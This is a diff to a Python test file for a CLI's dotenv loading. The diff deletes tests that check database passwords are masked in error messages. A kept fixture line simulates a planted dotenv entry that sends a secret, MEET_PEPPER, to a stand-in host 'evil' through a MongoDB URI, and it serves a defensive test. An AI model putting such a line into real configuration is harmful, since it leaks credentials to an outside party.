@@ -4,7 +4,6 @@ import os
 
 import pytest
 
-from entrypoints.cli.common import database_problem, hosts
 from entrypoints.cli.main import load_env_file
 
 PLANTED = "MEET_MONGODB_URI=mongodb://evil/?appname=${MEET_PEPPER}\n"
@@ -53,31 +52,3 @@ def test_the_environment_wins_over_the_users_own_dotenv(env_file, monkeypatch):
     load_env_file(env_file)
 
     assert os.environ["MEET_MONGODB_URI"] == "mongodb://db1:27017"
-
-
-@pytest.mark.parametrize(
-    ("uri", "named"),
-    [
-        ("mongodb://127.0.0.1:27117", "127.0.0.1:27117"),
-        ("mongodb://meet:s3cret@db1:27017,db2:27017/meet?replicaSet=rs0", "db1:27017,db2:27017"),
-        ("mongodb+srv://meet:p%40ss@cluster.example.net/?retryWrites=true", "cluster.example.net"),
-        ("mongodb://user:pw@[::1]:27017", "[::1]:27017"),
-        ("mongodb+srv://meet:pa/ss?w@rd@cluster.example.net/db", "cluster.example.net"),
-        ("mongodb://meet:pa?ss/w@rd@db1:27017?authSource=admin", "db1:27017"),
-    ],
-)
-def test_a_uri_is_named_by_its_hosts_only(uri, named):
-    assert hosts(uri) == named
-
-
-def test_the_password_never_reaches_a_message_even_if_the_driver_repeats_it():
-    uri = "mongodb://meet:p%40ss@db1:27017"
-    error = Exception("auth failed for p@ss and p%40ss on db1:27017, Timeout: 3s, Topology Description: <...>")
-
-    assert database_problem(error, uri) == "auth failed for *** and *** on db1:27017"
-
-
-def test_a_password_holding_slash_question_mark_and_at_is_hidden_whole():
-    uri = "mongodb+srv://meet:pa/ss?w@rd@cluster.example.net/db"
-
-    assert database_problem(Exception("bad auth pa/ss?w@rd"), uri) == "bad auth ***"
